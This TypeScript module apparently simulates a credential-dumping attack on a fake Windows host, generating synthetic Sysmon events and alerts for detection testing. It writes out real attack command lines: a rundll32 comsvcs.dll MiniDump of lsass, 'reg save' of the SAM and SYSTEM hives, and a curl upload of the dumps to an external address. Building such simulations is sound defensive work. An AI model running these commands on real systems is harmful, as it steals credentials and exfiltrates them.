import type { AttackRecord } from '../attack-record.ts';
import type { Stage } from '../simulated-host.ts';
import type { SimulatedTime } from '../simulated-time.ts';
import type { WindowsHost } from '../windows/windows-host.ts';
import { SYSTEM32 } from '../windows/windows-services.ts';
import { noteProcess } from './note-process.ts';
import { attackerAddress, attackName } from './scenario.ts';

const NAMES = ['o', 'err', 'trace', 'wer'];
const HUNT = 'credential-dumping';
const DUMP_TRACE =
  'C:\\Windows\\SYSTEM32\\ntdll.dll+9d5c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+2a7f1|C:\\Windows\\SYSTEM32\\dbgcore.DLL+b1c2';

/**
 * Credentials taken from lsass and from the registry hives, Sysmon. Planted, in this order:
 *
 * - explorer starts `cmd.exe` (1), an interactive one;
 * - cmd starts `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump PID C:\Windows\Temp\NAME.dmp full` (1; PID is that of
 *   lsass), which loads comsvcs.dll and dbgcore.dll (7), opens lsass with 0x1fffff, a call trace through dbgcore.DLL (10),
 *   and writes C:\Windows\Temp\NAME.dmp (11);
 * - cmd starts `reg save HKLM\SAM C:\Windows\Temp\NAME-s.hiv` and `reg save HKLM\SYSTEM …-y.hiv` (1), each writes its file (11);
 * - cmd starts `curl.exe -T … https://203.0.113.x/` (1), which connects there at port 443 (3) and ends; the three files are
 *   deleted by cmd (23).
 *
 * Three alerts of `credential-dumping`, keyed by the pids of rundll32 and of the two reg.exe.
 */
export function credentialDumping(attack: AttackRecord, host: WindowsHost, now: SimulatedTime, stage: Stage): void {
  const base = `C:\\Windows\\Temp\\${attackName(stage, NAMES)}`;
  const external = attackerAddress(stage);
  const { explorer, lsass } = host.services;
  const cmd = host.start(explorer, now, `${SYSTEM32}cmd.exe`, `"${SYSTEM32}cmd.exe"`);
  attack.records(now, cmd.record);
  noteProcess(attack, host, 'operator', cmd.process);
  attack.entity(host, { role: 'target', type: 'process', guid: lsass.guid, pid: lsass.pid });

  stage.plan(now + 4000, (at) => {
    const line = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${base}.dmp full`;
    const { process, record } = host.start(cmd.process, at, `${SYSTEM32}rundll32.exe`, line);
    attack.records(at, record, host.load(process, at + 30, 'comsvcs.dll'), host.load(process, at + 45, 'dbgcore.dll'));
    attack.records(at, host.openProcess(process, at + 90, lsass, '0x1fffff', DUMP_TRACE));
    attack.records(at, host.writeFile(process, at + 120, `${base}.dmp`), host.exit(process, at + 900));
    noteProcess(attack, host, 'dumper', process);
    attack.entity(host, { role: 'dump', type: 'file', path: `${base}.dmp` });
    attack.alert(HUNT, host, process.pid, at);
  });

  (['SAM', 'SYSTEM'] as const).forEach((hive, i) => {
    stage.plan(now + 9000 + i * 2500, (at) => {
      const file = `${base}-${hive === 'SAM' ? 's' : 'y'}.hiv`;
      const { process, record } = host.start(cmd.process, at, `${SYSTEM32}reg.exe`, `reg save HKLM\\${hive} ${file}`);
      attack.records(at, record, host.writeFile(process, at + 60, file), host.exit(process, at + 240));
      noteProcess(attack, host, 'dumper', process);
      attack.entity(host, { role: 'dump', type: 'file', path: file });
      attack.alert(HUNT, host, process.pid, at);
    });
  });

  stage.plan(now + 16_000, (at) => {
    const files = [`${base}.dmp`, `${base}-s.hiv`, `${base}-y.hiv`];
    const line = `curl.exe -s -T "{${files.join(',')}}" https://${external}/`;
    const { process, record } = host.start(cmd.process, at, `${SYSTEM32}curl.exe`, line);
    noteProcess(attack, host, 'exfiltration', process);
    attack.records(at, record, host.connect(process, at + 180, external, 443));
    attack.entity(host, { role: 'destination', type: 'ipv4-addr', value: external, port: 443, connections: 1 });
    stage.plan(at + 4000, (end) => {
      attack.records(end, host.exit(process, end));
      files.forEach((file, i) => attack.records(end, host.deleteFile(cmd.process, end + 300 + i * 20, file)));
      attack.records(end, host.exit(cmd.process, end + 900));
      attack.end(end + 900);
    });
  });
}
